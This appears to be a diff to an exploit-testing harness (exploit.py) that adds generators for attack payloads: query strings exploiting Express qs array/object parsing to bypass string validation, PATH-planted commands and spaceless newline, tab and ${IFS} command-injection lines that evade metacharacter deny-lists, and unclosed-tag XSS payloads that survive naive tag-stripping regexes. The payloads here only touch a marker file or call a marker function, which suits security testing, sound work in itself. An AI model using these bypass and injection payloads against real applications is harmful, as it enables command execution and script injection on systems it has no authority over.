@@ -146,3 +146,51 @@ def run_family(start: Callable[[], ContextManager[T]], families: Mapping[str, Ca
         broken(f"usage: exploit.py {'|'.join(families)}")
     with start() as target:
         attempt_all(sys.argv[1], families[sys.argv[1]](target))
+
+
+def confused(base: Mapping[str, str], field: str, valid: str, payload: str) -> list[list[tuple[str, str]]]:
+    """Query strings that carry ``payload`` in ``field`` as something other than one string,
+    as Express's qs parses them: an array (``f[]=``, ``f[0]=``, a valid value first), the
+    field repeated, an object (``f[key]=``). Code that validates with a string method
+    (includes, startsWith, a length) on what is really an array or object, then interpolates
+    it (String of an array joins with commas), lets ``payload`` in. ``base`` adds the other
+    fields (not ``field``)."""
+    rest = [(k, v) for k, v in base.items() if k != field]
+    shapes = [[(f"{field}[]", payload)], [(f"{field}[]", valid), (f"{field}[]", payload)],
+              [(field, valid), (field, payload)], [(field, payload), (field, valid)],
+              [(f"{field}[0]", payload)], [(f"{field}[x]", payload)]]
+    return [rest + shape for shape in shapes]
+
+
+WORDS = ("hello", "refresh")
+
+
+def word_env(state: Path) -> dict[str, str]:
+    """PATH with ``state``/bin first, where ``plant_words`` puts its commands."""
+    (state / "bin").mkdir(exist_ok=True)
+    return {"PATH": f"{state / 'bin'}{os.pathsep}{os.environ.get('PATH', '')}"}
+
+
+def plant_words(state: Path, marker: Path) -> None:
+    """Commands named like ordinary words (``WORDS``, in ``state``/bin) that create ``marker``
+    when run with no argument: an injected line holding only a word runs one, past checks
+    that refuse spaces, redirection, slashes and dots."""
+    (state / "bin").mkdir(exist_ok=True)
+    for word in WORDS:
+        fake_tool(state / "bin" / word, f"open({str(marker)!r}, 'a').close()\n")
+
+
+def spaceless_lines(lead: str, relative: str, tail: str = "") -> list[str]:
+    """``lead``, then a line break (LF or CRLF) and a command with no space in it that creates
+    the marker at ``relative`` (redirection, a tab, ${IFS}, a bare word of ``plant_words``),
+    then ``tail``: past deny-lists of metacharacters that forget line breaks and refuse spaces."""
+    lines = [f">{relative}", f"touch\t{relative}", f"touch${{IFS}}{relative}", *WORDS]
+    return [f"{lead}{brk}{line}{end}" for line in lines for brk, end in (("\n", tail), ("\r\n", tail or "\r\n"))]
+
+
+def unclosed_tags(marker: str) -> list[str]:
+    """Tags with no closing '>' that run ``marker``(): the page's own next '>' completes them,
+    past code that removes complete tags only (a regular expression like <[^>]*>)."""
+    return [f"<img src=x onerror={marker}()//", f"<img src=x onerror={marker}() x=", f"<svg onload={marker}() ",
+            f"<svg onload={marker}()//", f'<img src=x onerror="{marker}()"', f"<a href=javascript:{marker}() ",
+            f"<details open ontoggle={marker}() ", f"<svg/onload={marker}()"]
